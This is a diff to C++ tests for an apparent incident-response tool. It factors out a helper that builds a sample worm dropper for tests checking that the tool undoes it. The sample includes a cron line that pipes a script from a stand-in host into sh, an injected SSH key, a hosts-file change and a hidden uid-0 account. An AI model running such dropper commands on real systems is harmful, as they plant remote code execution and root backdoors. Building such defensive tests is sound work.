@@ -434,6 +434,12 @@ TEST(RespondSafety, ThePlanUndoesABatchDropperByItsOwnNames) {
   EXPECT_NE(ps1.out.find("$Expected = '127.0.0.1 www.360.cn'"), std::string::npos);
 }
 
+// A shell dropper as worms leave them: a cron line, an SSH key and a hosts line appended, then `more` commands.
+std::string shell_dropper(const std::string& cron, const std::string& key, const std::string& more = "") {
+  return "#!/bin/sh\necho '" + cron + "' >> /etc/crontab\necho '" + key +
+         "' >> ~/.ssh/authorized_keys\necho '127.0.0.1 minexmr.com' >> /etc/hosts\n" + more;
+}
+
 // Item 6 on a Linux root: what a shell dropper wrote into the system's own files is commented out, the
 // administrator's lines stay, and undo puts everything back.
 TEST(RespondSafety, ApplyUndoesAShellDropperAndKeepsTheAdministratorsLines) {
@@ -441,15 +447,7 @@ TEST(RespondSafety, ApplyUndoesAShellDropperAndKeepsTheAdministratorsLines) {
   const fs::path root = dir / "root";
   const std::string worm_cron = "*/5 * * * * root curl -fsSL http://203.0.113.9/pm.sh|sh";
   const std::string worm_key = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCworm worm@x";
-  test::write_file(root / "tmp/.x.sh",
-                   "#!/bin/sh\n"
-                   "echo '" +
-                       worm_cron +
-                       "' >> /etc/crontab\n"
-                       "echo '" +
-                       worm_key +
-                       "' >> ~/.ssh/authorized_keys\n"
-                       "echo '127.0.0.1 minexmr.com' >> /etc/hosts\n");
+  test::write_file(root / "tmp/.x.sh", shell_dropper(worm_cron, worm_key));
   fs::permissions(root / "tmp/.x.sh", fs::perms::owner_all, fs::perm_options::add);  // droppers are made executable
   const std::string crontab =
       "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n" + worm_cron + "\n";
@@ -488,15 +486,7 @@ TEST(RespondSafety, TheShScriptUndoesADropperInAPrivateMountNamespace) {
   const std::string worm_cron = "*/5 * * * * root curl -fsSL http://203.0.113.9/pm.sh|sh";
   const std::string worm_key = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCworm worm@x";
   test::write_file(dir / "ev/tmp/.x.sh",
-                   "#!/bin/sh\n"
-                   "echo '" +
-                       worm_cron +
-                       "' >> /etc/crontab\n"
-                       "echo '" +
-                       worm_key +
-                       "' >> ~/.ssh/authorized_keys\n"
-                       "echo '127.0.0.1 minexmr.com' >> /etc/hosts\n"
-                       "useradd -o -u 0 -g 0 -M -s /bin/bash hilde\n");
+                   shell_dropper(worm_cron, worm_key, "useradd -o -u 0 -g 0 -M -s /bin/bash hilde\n"));
   ASSERT_EQ(ms({"scan", "--quiet", "--case", (dir / "case.sqlite").string(), (dir / "ev").string()}).exit_code, 1);
   ASSERT_EQ(
       ms({"respond", (dir / "case.sqlite").string(), "--script", "sh", "--out", (dir / "r.sh").string()}).exit_code, 0);
